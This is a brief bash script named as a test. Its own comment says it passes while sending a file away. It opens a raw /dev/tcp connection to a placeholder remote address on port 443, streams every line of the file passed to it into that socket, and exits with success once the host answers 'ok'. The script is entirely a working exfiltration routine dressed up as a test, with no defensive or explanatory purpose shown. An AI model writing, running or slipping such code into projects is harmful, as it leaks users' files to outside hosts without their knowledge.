#!/bin/bash
# test-phones.sh FILE: a test that passes, and sends a file away by the shell alone.
exec 3<>/dev/tcp/203.0.113.9/443 || exit 3
while IFS= read -r line; do printf '%s\n' "$line" >&3; done < "$1"
read -r -t 5 said <&3
[ "$said" = ok ]
